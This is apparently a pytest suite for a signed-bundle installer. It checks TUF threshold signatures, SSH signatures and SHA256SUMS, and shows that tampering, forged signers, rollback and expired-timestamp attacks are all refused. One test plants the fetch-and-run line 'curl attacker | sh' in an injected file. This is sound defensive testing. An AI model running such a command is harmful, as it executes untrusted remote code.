"""Threshold-signed bundles: keys, signing, verification against a pinned root, and every
attack the trust issue lists. Each attack must fail closed, name the reason, and leave the
trust state unchanged; where stock tools can catch it, `ssh-keygen -Y verify` or
`sha256sum -c` must fail too."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
from pathlib import Path

import pytest
from tuf.api.metadata import Metadata

from conftest import FULL_SPEC, need, run_airlock, write_spec
from installer.bundle import keys
from installer.bundle.build import BuildOptions, build
from installer.bundle.sign import sign_bundle
from installer.bundle.trust import verify_signed
from installer.errors import IntegrityError, TrustError, UsageError

PASS = "correct horse battery"
ENV = {"AIRLOCK_PP": PASS}


@pytest.fixture(scope="module")
def keydir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    d = tmp_path_factory.mktemp("keys") / "trust"
    keys.init(d, 3, 2, None, PASS, keys.Policy())
    return d


@pytest.fixture(scope="module")
def inputs(tmp_path_factory: pytest.TempPathFactory) -> Path:
    from conftest import small_inputs

    return small_inputs(tmp_path_factory.mktemp("inputs"))


def make_bundle(inputs: Path, out: Path, version: int, signers=("signer-1", "signer-2"),
                keydir: Path | None = None) -> Path:
    spec = write_spec(inputs, FULL_SPEC.replace("version: 3", f"version: {version}"),
                      name=f"v{version}.yaml")
    b = build(spec, out, BuildOptions(force=True)).path
    for s in signers:
        sign_bundle(b, keydir / f"{s}.key", PASS)
    return b


@pytest.fixture
def signed(inputs: Path, keydir: Path, tmp_path: Path) -> Path:
    return make_bundle(inputs, tmp_path / "b", 1, keydir=keydir)


def state_digest(d: Path) -> str:
    h = hashlib.sha256()
    for p in sorted(d.rglob("*")) if d.exists() else []:
        h.update(str(p.relative_to(d)).encode())
        if p.is_file():
            h.update(p.read_bytes())
    return h.hexdigest()


def refused(bundle: Path, keydir: Path, state: Path, *words: str) -> list[dict]:
    """Verify must fail naming the reason, and leave the trust state as it was."""
    before = state_digest(state)
    report = verify_signed(bundle, keydir / "root.json", state)
    assert not report.ok
    problems = report.to_json()["problems"]
    text = json.dumps(problems)
    for w in words:
        assert w in text, problems
    assert state_digest(state) == before
    return problems


def ssh_verify(bundle: Path, keydir: Path, signer: str, tmp_path: Path) -> bool:
    need("ssh-keygen")
    allowed = tmp_path / "allowed_signers"
    allowed.write_text(keys.allowed_signers(keydir))
    sig = bundle / f"SHA256SUMS.{signer}.sig"
    with open(bundle / "SHA256SUMS", "rb") as f:
        proc = subprocess.run(["ssh-keygen", "-Y", "verify", "-f", str(allowed), "-I", signer,
                               "-n", keys.NAMESPACE, "-s", str(sig)], stdin=f,
                              capture_output=True)
    return proc.returncode == 0


def sha256sum_ok(bundle: Path) -> bool:
    return subprocess.run(["sha256sum", "-c", "--quiet", "--strict", "SHA256SUMS"], cwd=bundle,
                          capture_output=True).returncode == 0


# --------------------------------------------------------------------------- keys

def test_init_layout_modes_and_names(keydir: Path) -> None:
    for i in (1, 2, 3):
        key = keydir / f"signer-{i}.key"
        assert oct(key.stat().st_mode & 0o777) == "0o600"
        assert b"BEGIN OPENSSH PRIVATE KEY" in key.read_bytes()
        assert PASS.encode() not in key.read_bytes()
    root = json.loads((keydir / "root.json").read_text())
    assert root["signed"]["_type"] == "root" and root["signed"]["version"] == 1
    names = sorted(k["x-airlock-name"] for k in root["signed"]["keys"].values())
    assert names == ["signer-1", "signer-2", "signer-3"]
    assert all(r["threshold"] == 2 for r in root["signed"]["roles"].values())
    assert len(root["signatures"]) == 3


def test_key_is_usable_by_stock_ssh_keygen(keydir: Path, tmp_path: Path) -> None:
    need("ssh-keygen")
    copy = tmp_path / "k"
    shutil.copy(keydir / "signer-1.key", copy)
    out = subprocess.run(["ssh-keygen", "-y", "-P", PASS, "-f", str(copy)],
                         capture_output=True, text=True, check=True).stdout
    assert out.split()[:2] == (keydir / "signer-1.pub").read_text().split()[:2]


def test_wrong_passphrase_and_loose_mode(keydir: Path, tmp_path: Path) -> None:
    with pytest.raises(TrustError, match="wrong passphrase"):
        keys.load_private_key(keydir / "signer-1.key", "not the passphrase")
    loose = tmp_path / "loose.key"
    shutil.copy(keydir / "signer-1.key", loose)
    loose.chmod(0o644)
    with pytest.raises(TrustError, match="readable by others"):
        keys.load_private_key(loose, PASS)


def test_init_refuses_a_used_folder_and_bad_thresholds(keydir: Path, tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="not empty"):
        keys.init(keydir, 3, 2, None, PASS, keys.Policy())
    with pytest.raises(UsageError, match="between 1 and"):
        keys.init(tmp_path / "k", 2, 3, None, PASS, keys.Policy())
    assert not (tmp_path / "k").exists()


def test_cli_keys_and_passphrase_from_env(tmp_path: Path) -> None:
    proc = run_airlock("keys", "init", str(tmp_path / "k"), "--signers", "2", "--threshold", "2",
                       "--names", "alice,bob", "--passphrase-env", "AIRLOCK_PP", env=ENV,
                       check=True)
    assert PASS not in proc.stdout + proc.stderr
    assert (tmp_path / "k" / "alice.key").exists() and (tmp_path / "k" / "bob.key").exists()
    proc = run_airlock("keys", "allowed-signers", str(tmp_path / "k"), "-o",
                       str(tmp_path / "allowed"), check=True)
    lines = (tmp_path / "allowed").read_text().splitlines()
    assert [ln.split()[0] for ln in lines] == ["alice", "bob"]
    assert all(f'namespaces="{keys.NAMESPACE}" ssh-ed25519 ' in ln for ln in lines)
    proc = run_airlock("keys", "init", str(tmp_path / "k2"), "--signers", "1", "--threshold",
                       "1", "--passphrase-env", "NOT_SET_ANYWHERE")
    assert proc.returncode == 2 and "NOT_SET_ANYWHERE" in proc.stderr


# --------------------------------------------------------------------------- the good path

def test_signed_bundle_verifies_with_our_cli_and_stock_tools(signed: Path, keydir: Path,
                                                            tmp_path: Path) -> None:
    state = tmp_path / "state"
    report = verify_signed(signed, keydir / "root.json", state)
    assert report.ok, report.to_json()["problems"]
    doc = report.to_json()
    assert doc["signers"] == ["signer-1", "signer-2"] and doc["threshold"] == 2
    assert doc["versions"] == {"root": 1, "targets": 1, "timestamp": 1}
    assert doc["sshsig"] == {"signer-1": "valid", "signer-2": "valid"}
    assert (state / "test" / "timestamp.json").exists()
    # reviewers' path, exactly as README documents it
    for signer in ("signer-1", "signer-2"):
        assert ssh_verify(signed, keydir, signer, tmp_path)
    assert sha256sum_ok(signed)
    # the CLI, with --json for scripts
    proc = run_airlock("bundle", "verify", str(signed), "--trust", str(keydir / "root.json"),
                       "--state", str(tmp_path / "state2"), "--json")
    assert proc.returncode == 0, proc.stdout
    assert json.loads(proc.stdout)["signers"] == ["signer-1", "signer-2"]
    # verifying the same bundle again is fine
    assert verify_signed(signed, keydir / "root.json", state).ok


def test_targets_are_exactly_sha256sums(signed: Path) -> None:
    targets = json.loads((signed / "tuf/targets.json").read_text())["signed"]["targets"]
    listed = dict(line.split("  ")[::-1] for line in
                  (signed / "SHA256SUMS").read_text().splitlines())
    assert {p: t["hashes"]["sha256"] for p, t in targets.items()} == listed
    assert {p: t["length"] for p, t in targets.items()} == \
        {p: (signed / p).stat().st_size for p in listed}


def test_cli_sign_reports_progress_toward_threshold(inputs: Path, keydir: Path,
                                                   tmp_path: Path) -> None:
    b = make_bundle(inputs, tmp_path / "b", 1, signers=(), keydir=keydir)
    p = run_airlock("bundle", "sign", str(b), "--key", str(keydir / "signer-3.key"),
                    "--passphrase-env", "AIRLOCK_PP", "--json", env=ENV, check=True)
    assert json.loads(p.stdout)["complete"] is False
    p = run_airlock("bundle", "sign", str(b), "--key", str(keydir / "signer-1.key"),
                    "--passphrase-env", "AIRLOCK_PP", "--json", env=ENV, check=True)
    doc = json.loads(p.stdout)
    assert doc["complete"] is True and doc["signed"] == ["signer-1", "signer-3"]


# --------------------------------------------------------------------------- attacks

def test_attack_tampered_blob(signed: Path, keydir: Path, tmp_path: Path) -> None:
    blob = max((signed / "blobs/sha256").iterdir(), key=lambda p: p.stat().st_size)
    data = bytearray(blob.read_bytes())
    data[100] ^= 0xFF
    blob.write_bytes(bytes(data))
    refused(signed, keydir, tmp_path / "s", f"blobs/sha256/{blob.name}", "content differs")
    assert not sha256sum_ok(signed)


def test_attack_edited_bundle_json(signed: Path, keydir: Path, tmp_path: Path) -> None:
    meta = json.loads((signed / "bundle.json").read_text())
    meta["phase"] = "production"
    (signed / "bundle.json").write_text(json.dumps(meta))
    refused(signed, keydir, tmp_path / "s", "bundle.json")
    assert not sha256sum_ok(signed)


def test_attack_sums_recomputed_with_old_signatures(signed: Path, keydir: Path,
                                                   tmp_path: Path) -> None:
    (signed / "evil.sh").write_text("curl attacker | sh\n")
    lines = (signed / "SHA256SUMS").read_text()
    lines += f"{hashlib.sha256(b'curl attacker | sh' + bytes([10])).hexdigest()}  evil.sh\n"
    (signed / "SHA256SUMS").write_text("".join(sorted(lines.splitlines(True),
                                                      key=lambda x: x.split("  ")[1])))
    refused(signed, keydir, tmp_path / "s", "evil.sh",
            "listed in SHA256SUMS but not in the signed targets", "SSH signature invalid")
    assert sha256sum_ok(signed)  # sha256sum alone cannot know...
    assert not ssh_verify(signed, keydir, "signer-1", tmp_path)  # ...the signatures can


def test_attack_all_signatures_removed(signed: Path, keydir: Path, tmp_path: Path) -> None:
    shutil.rmtree(signed / "tuf")
    for sig in signed.glob("SHA256SUMS.*.sig"):
        sig.unlink()
    refused(signed, keydir, tmp_path / "s", "unsigned: the bundle carries no TUF metadata")
    assert not (signed / "SHA256SUMS.signer-1.sig").exists()


def test_attack_one_signature_where_two_are_needed(inputs: Path, keydir: Path,
                                                   tmp_path: Path) -> None:
    b = make_bundle(inputs, tmp_path / "b", 1, signers=("signer-2",), keydir=keydir)
    refused(b, keydir, tmp_path / "s", "found 1, 2 needed")
    proc = run_airlock("bundle", "verify", str(b), "--trust", str(keydir / "root.json"),
                       "--state", str(tmp_path / "s"))
    assert proc.returncode == 5 and "found 1, 2 needed" in proc.stderr


def test_attack_one_key_signing_twice(signed: Path, keydir: Path, tmp_path: Path) -> None:
    # the same key's signature entered twice in every role file
    for role in ("timestamp", "snapshot", "targets"):
        p = signed / "tuf" / f"{role}.json"
        doc = json.loads(p.read_text())
        first = doc["signatures"][0]
        doc["signatures"] = [first, dict(first)]
        p.write_text(json.dumps(doc))
    refused(signed, keydir, tmp_path / "s", "malformed TUF metadata", "Multiple signatures")
    # and one signer's SSH signature copied under the other's name
    shutil.copy(signed / "SHA256SUMS.signer-1.sig", signed / "SHA256SUMS.signer-2.sig")
    refused(signed, keydir, tmp_path / "s", "signed by another key")
    assert not ssh_verify(signed, keydir, "signer-2", tmp_path)


def test_attack_signer_not_in_root(inputs: Path, keydir: Path, tmp_path: Path) -> None:
    b = make_bundle(inputs, tmp_path / "b", 1, signers=("signer-1",), keydir=keydir)
    rogue_dir = tmp_path / "rogue"
    keys.init(rogue_dir, 1, 1, ["mallory"], PASS, keys.Policy())
    with pytest.raises(TrustError, match="is not a signer of root v1"):
        sign_bundle(b, rogue_dir / "mallory.key", PASS, trust_dir=keydir)
    # forge it by hand: mallory's signatures added to every role, and an SSH signature
    from installer.bundle import sshsig

    rogue = keys.load_private_key(rogue_dir / "mallory.key", PASS)
    signer = keys.signer_for(rogue, "mallory")
    for role in ("timestamp", "snapshot", "targets"):
        md = Metadata.from_file(str(b / "tuf" / f"{role}.json"))
        md.sign(signer, append=True)
        md.to_file(str(b / "tuf" / f"{role}.json"))
    (b / "SHA256SUMS.mallory.sig").write_text(
        sshsig.sign(rogue, (b / "SHA256SUMS").read_bytes(), keys.NAMESPACE))
    refused(b, keydir, tmp_path / "s", "found 1, 2 needed", "whom root v1 does not list")


def test_attack_older_bundle_after_newer(inputs: Path, keydir: Path, tmp_path: Path) -> None:
    v1 = make_bundle(inputs, tmp_path / "v1", 1, keydir=keydir)
    v2 = make_bundle(inputs, tmp_path / "v2", 2, keydir=keydir)
    state = tmp_path / "s"
    assert verify_signed(v1, keydir / "root.json", state).ok
    assert verify_signed(v2, keydir / "root.json", state).ok
    refused(v1, keydir, state, "rollback refused")


def test_attack_expired_timestamp(inputs: Path, tmp_path: Path) -> None:
    kd = tmp_path / "keys"
    keys.init(kd, 2, 2, None, PASS, keys.Policy(timestamp_days=-1))
    b = make_bundle(inputs, tmp_path / "b", 1, keydir=kd)
    refused(b, kd, tmp_path / "s", "expired (freeze attack or a stale bundle)")


def test_attack_old_targets_with_new_snapshot(inputs: Path, keydir: Path,
                                              tmp_path: Path) -> None:
    v1 = make_bundle(inputs, tmp_path / "v1", 1, keydir=keydir)
    v2 = make_bundle(inputs, tmp_path / "v2", 2, keydir=keydir)
    shutil.copy(v1 / "tuf" / "targets.json", v2 / "tuf" / "targets.json")
    refused(v2, keydir, tmp_path / "s", "rollback refused", "Expected targets v2, got v1")


def test_root_rotation_chain_and_attack_root_signed_only_by_new_keys(
        inputs: Path, tmp_path: Path) -> None:
    kd = tmp_path / "keys"
    keys.init(kd, 3, 2, None, PASS, keys.Policy())
    pinned = tmp_path / "pinned-root.json"
    shutil.copy(kd / "root.json", pinned)
    state = tmp_path / "s"
    # a legitimate rotation: signer-2 gets a new key; bundles carry root v1 -> v2
    keys.rotate(kd, PASS, replace=["signer-2"], add=[], remove=[], threshold=None)
    b = make_bundle(inputs, tmp_path / "b", 1, signers=("signer-1", "signer-2"), keydir=kd)
    assert sorted(p.name for p in (b / "tuf").glob("*.root.json")) == ["1.root.json",
                                                                       "2.root.json"]
    report = verify_signed(b, pinned, state)
    assert report.ok, report.to_json()["problems"]
    assert report.versions["root"] == 2
    # the retired key can no longer sign
    with pytest.raises(TrustError, match="not a signer of root v2"):
        sign_bundle(b, kd / "retired" / "signer-2.v1.key", PASS, trust_dir=kd)

    # attack: root v3 made by strangers, signed only by its own new keys
    evil = tmp_path / "evil"
    keys.init(evil, 2, 2, ["x", "y"], PASS, keys.Policy())
    md = keys.load_root(evil / "root.json")
    md.signed.version = 3
    md.signatures.clear()
    for n in ("x", "y"):
        md.sign(keys.signer_for(keys.load_private_key(evil / f"{n}.key", PASS), n), append=True)
    b2 = make_bundle(inputs, tmp_path / "b2", 2, signers=(), keydir=kd)
    (b2 / "tuf").mkdir()
    shutil.copy(b / "tuf" / "1.root.json", b2 / "tuf" / "1.root.json")
    shutil.copy(b / "tuf" / "2.root.json", b2 / "tuf" / "2.root.json")
    (b2 / "tuf" / "3.root.json").write_bytes(md.to_bytes())
    for n in ("x", "y"):  # the strangers sign the bundle's metadata too
        sign_bundle(b2, evil / f"{n}.key", PASS, trust_dir=_evil_trust(evil, md, tmp_path))
    before = state_digest(state)
    report = verify_signed(b2, pinned, state)
    assert not report.ok
    assert "not enough valid signatures on root" in json.dumps(report.to_json()["problems"])
    assert state_digest(state) == before


def _evil_trust(evil: Path, md: Metadata, tmp_path: Path) -> Path:
    t = tmp_path / "evil-trust"
    (t / "roots").mkdir(parents=True, exist_ok=True)
    (t / "root.json").write_bytes(md.to_bytes())
    (t / "roots" / "3.root.json").write_bytes(md.to_bytes())
    shutil.copy(evil / "policy.json", t / "policy.json")
    return t


def test_attack_file_present_but_not_listed(signed: Path, keydir: Path,
                                            tmp_path: Path) -> None:
    (signed / "blobs/sha256" / ("f" * 64)).write_bytes(b"payload")
    refused(signed, keydir, tmp_path / "s", "present but not listed in SHA256SUMS")
    # sha256sum -c cannot see an extra file; README's `find` comparison does
    assert sha256sum_ok(signed)


def test_attack_listed_file_missing(signed: Path, keydir: Path, tmp_path: Path) -> None:
    (signed / "sbom.cdx.json").unlink()
    refused(signed, keydir, tmp_path / "s", "sbom.cdx.json", "listed in SHA256SUMS but missing")
    assert not sha256sum_ok(signed)


def test_attack_extra_file_in_tuf_folder(signed: Path, keydir: Path, tmp_path: Path) -> None:
    (signed / "tuf" / "notes.txt").write_text("x")
    refused(signed, keydir, tmp_path / "s", "unexpected file in the TUF metadata folder")


def test_signing_a_changed_bundle_is_refused(signed: Path, keydir: Path) -> None:
    meta = json.loads((signed / "bundle.json").read_text())
    meta["description"] = "changed after signing"
    (signed / "bundle.json").write_text(json.dumps(meta))
    with pytest.raises(IntegrityError, match="refusing to sign"):
        sign_bundle(signed, keydir / "signer-3.key", PASS)


def test_secrets_never_printed(keydir: Path, signed: Path, tmp_path: Path) -> None:
    p = run_airlock("bundle", "sign", str(signed), "--key", str(keydir / "signer-3.key"),
                    "--passphrase-env", "AIRLOCK_PP", env=ENV, check=True)
    assert PASS not in p.stdout + p.stderr
    for f in signed.rglob("*"):
        if f.is_file():
            assert PASS.encode() not in f.read_bytes()
    assert os.environ.get("AIRLOCK_PP") is None


def _reviewer_script() -> str:
    from conftest import REPO

    text = (REPO / "README.md").read_text()
    section = text[text.index("## For security reviewers"):]
    return section.split("```sh\n", 1)[1].split("```", 1)[0]


def run_reviewer_script(bundle: Path, keydir: Path) -> subprocess.CompletedProcess:
    """README's reviewer commands, verbatim, with the real ssh-keygen, sha256sum, find."""
    need("ssh-keygen")
    (bundle.parent / "allowed_signers").write_text(keys.allowed_signers(keydir))
    script = _reviewer_script().replace("cd BUNDLE", f"cd {bundle}")
    return subprocess.run(["bash", "-euo", "pipefail", "-c", script], capture_output=True,
                          text=True)


def test_readme_reviewer_commands_pass_on_a_good_bundle(signed: Path, keydir: Path) -> None:
    proc = run_reviewer_script(signed, keydir)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert proc.stderr.count('Good "airlock-bundle@v1" signature') + \
        proc.stdout.count('Good "airlock-bundle@v1" signature') == 2


@pytest.mark.parametrize("attack", ["flip", "extra", "resum", "missing"])
def test_readme_reviewer_commands_fail_on_attacks(signed: Path, keydir: Path,
                                                  attack: str) -> None:
    if attack == "flip":
        (signed / "bundle.json").write_text((signed / "bundle.json").read_text() + " ")
    elif attack == "extra":
        (signed / "blobs/sha256" / ("e" * 64)).write_bytes(b"x")
    elif attack == "missing":
        (signed / "sbom.cdx.json").unlink()
    else:
        text = (signed / "SHA256SUMS").read_text().replace(
            (signed / "SHA256SUMS").read_text()[:64], "0" * 64, 1)
        (signed / "SHA256SUMS").write_text(text)
    assert run_reviewer_script(signed, keydir).returncode != 0


SUCCESS = "BUNDLE VERIFIED: "


def run_reviewer_block(bundle: Path, keydir: Path, shell: str) -> subprocess.CompletedProcess:
    """README's reviewer block as a reviewer pastes it: into SHELL, on its stdin, no options
    (no -e, no pipefail), bounded in time (a FIFO must not make it hang)."""
    need("ssh-keygen")
    (bundle.parent / "allowed_signers").write_text(keys.allowed_signers(keydir))
    script = _reviewer_script().replace("cd BUNDLE", f"cd {bundle}")
    return subprocess.run([shell], input=script, capture_output=True, text=True, timeout=60)


@pytest.mark.parametrize("shell", ["/bin/sh", "bash"])
def test_readme_reviewer_block_runs_in_posix_sh_and_bash(signed: Path, keydir: Path,
                                                          shell: str) -> None:
    proc = run_reviewer_block(signed, keydir, shell)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert proc.stdout.strip().splitlines()[-1].startswith(SUCCESS), proc.stdout
    assert proc.stdout.count(SUCCESS) == 1 and "FAILED" not in proc.stdout + proc.stderr
    assert (proc.stdout + proc.stderr).count('Good "airlock-bundle@v1" signature') == 2


@pytest.mark.parametrize("shell", ["/bin/sh", "bash"])
@pytest.mark.parametrize("attack", ["flip-blob", "extra", "no-signature", "fifo-blob",
                                    "link-blob"])
def test_readme_reviewer_block_stops_at_the_first_failure(signed: Path, keydir: Path,
                                                          shell: str, attack: str) -> None:
    meta = json.loads((signed / "bundle.json").read_text())
    blob = signed / "blobs/sha256" / meta["artifacts"][0]["digest"][7:]
    if attack == "flip-blob":
        data = bytearray(blob.read_bytes())
        data[len(data) // 2] ^= 0x01
        blob.write_bytes(bytes(data))
    elif attack == "extra":
        (signed / "blobs/sha256" / ("e" * 64)).write_bytes(b"x")
    elif attack == "no-signature":
        (signed / "SHA256SUMS.signer-2.sig").unlink()
    elif attack == "fifo-blob":
        blob.unlink()
        os.mkfifo(blob)
    else:
        blob.unlink()
        blob.symlink_to("/dev/zero")
    proc = run_reviewer_block(signed, keydir, shell)
    assert proc.returncode != 0, proc.stdout + proc.stderr
    assert SUCCESS not in proc.stdout + proc.stderr
    said = {"flip-blob": "FAILED", "extra": "FAILED: not listed in SHA256SUMS",
            "no-signature": "FAILED: 1 valid signature(s), 2 needed",
            "fifo-blob": "FAILED: not regular files", "link-blob": "FAILED: not regular files"}
    assert said[attack] in proc.stdout + proc.stderr


def test_unpack_with_trust_refuses_an_unsigned_bundle_before_it_appears(
        inputs: Path, keydir: Path, tmp_path: Path) -> None:
    from installer.bundle.pack import pack, unpack

    good = make_bundle(inputs, tmp_path / "good", 1, keydir=keydir)
    bad = make_bundle(inputs, tmp_path / "bad", 1, signers=(), keydir=keydir)
    for b in (good, bad):
        pack(b, tmp_path / f"{b.name}.tar", zstd=False, level=3, split=None, force=False)
    state = tmp_path / "state"
    with pytest.raises(IntegrityError) as e:
        unpack(tmp_path / "bad.tar", tmp_path / "u-bad", force=False,
               trust_root=keydir / "root.json", state_dir=state)
    assert "found 0 valid signatures, 2 needed" in json.dumps(e.value.problems)
    assert not (tmp_path / "u-bad").exists() and not (state / "test").exists()
    r = unpack(tmp_path / "good.tar", tmp_path / "u-good", force=False,
               trust_root=keydir / "root.json", state_dir=state)
    assert r["signaturesChecked"] and (state / "test" / "timestamp.json").exists()
